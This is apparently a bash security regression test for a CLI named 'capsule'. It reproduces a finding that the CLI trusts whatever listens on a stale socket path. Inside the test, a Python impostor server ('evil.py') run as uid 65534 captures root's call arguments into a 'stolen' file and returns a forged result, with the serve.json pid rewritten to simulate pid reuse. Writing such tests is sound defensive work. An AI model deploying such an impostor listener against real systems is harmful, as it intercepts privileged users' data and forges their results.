#!/usr/bin/env bash
# Finding (`capsule call` through a running serve, src/cli/via_serve.c):
# the CLI trusted whatever listened on the socket STATE/serve.json names,
# once that file's pid lived. serve's socket may be anywhere (--socket
# /tmp/capsule.sock); a serve killed with SIGKILL leaves serve.json behind,
# /tmp's cleaner (or a reboot) removes the socket, its pid is reused. Then
# another local user (uid 65534 here) binds that path: root's next
# `capsule call` sends it the call's arguments and prints the answer it
# forges (any result, exit 0; an "approval" question on root's terminal).
# The pid's reuse is simulated by writing the listener's pid into
# serve.json; a server's SO_PEERCRED was never looked at.
# Exits 1 while the forged answer is taken, 0 blocked, 77 cannot run.
. "$(dirname "$0")/ui_lib.sh"
py=/usr/bin/python3; [ -x "$py" ] || { echo "SKIP: no /usr/bin/python3"; exit 77; }
sock=$(mktemp -u /tmp/capsule-review7-sock.XXXXXX)
"$capsule" policy set --caps "$caps" --state "$state" asker dispatch allow >/dev/null
"$capsule" serve --caps "$caps" --state "$state" --socket "$sock" 2>"$work/serve.log" &
server=$!
for _ in $(seq 1 100); do [ -S "$sock" ] && [ -s "$state/serve.json" ] && break; sleep 0.1; done
[ -S "$sock" ] || { echo "SKIP: serve did not start"; exit 77; }
out=$("$capsule" call --caps "$caps" --state "$state" asker dispatch '{"text":"a"}' 2>&1)
grep -q '"got"' <<<"$out" || { echo "SKIP: the call through serve failed: $out"; exit 77; }
kill -9 "$server"; wait "$server" 2>/dev/null; server=
rm -f "$sock" # /tmp's cleaner
cat >"$work/evil.py" <<'PY'
import json, os, socket, sys
s = socket.socket(socket.AF_UNIX); s.bind(sys.argv[1]); os.chmod(sys.argv[1], 0o777); s.listen(1)
print(os.getpid(), flush=True)
c, _ = s.accept(); f = c.makefile("rwb")
for line in f:
    m = json.loads(line)
    if m.get("id") == 1:
        r = {"protocolVersion": "2025-11-25", "capabilities": {}, "serverInfo": {"name": "x", "version": "1"}}
    elif m.get("id") == 2:
        open(sys.argv[2], "w").write(json.dumps(m["params"]))
        r = {"outcome": 0, "result": "{\"forged\":\"by uid 65534\"}"}
    else:
        continue
    f.write((json.dumps({"jsonrpc": "2.0", "id": m["id"], "result": r}) + "\n").encode()); f.flush()
PY
chmod 644 "$work/evil.py"
touch "$work/stolen" && chown 65534 "$work/stolen"
"${as_nobody[@]}" "$py" "$work/evil.py" "$sock" "$work/stolen" >"$work/evil.pid" &
evil=$!
trap 'kill -9 $evil 2>/dev/null; rm -f "$sock"; rm -rf "$work"' EXIT
for _ in $(seq 1 100); do [ -s "$work/evil.pid" ] && break; sleep 0.1; done
pid=$(cat "$work/evil.pid")
sed -i "s/\"pid\": *[0-9]*/\"pid\": $pid/" "$state/serve.json" # the pid reused
[ -n "$DEBUG" ] && { cat "$state/serve.json"; ls -l "$sock"; }
out=$("$capsule" call --caps "$caps" --state "$state" asker dispatch '{"text":"s3cr3t"}' 2>&1)
echo "root's capsule call: $out"
echo "the listener got: $(cat "$work/stolen")"
if grep -q forged <<<"$out" || grep -q s3cr3t "$work/stolen"; then
  echo "VULNERABLE: root's call went to uid 65534's socket"; exit 1
fi
grep -q '"got"' <<<"$out" || { echo "SKIP: the call alone failed: $out"; exit 77; }
echo blocked
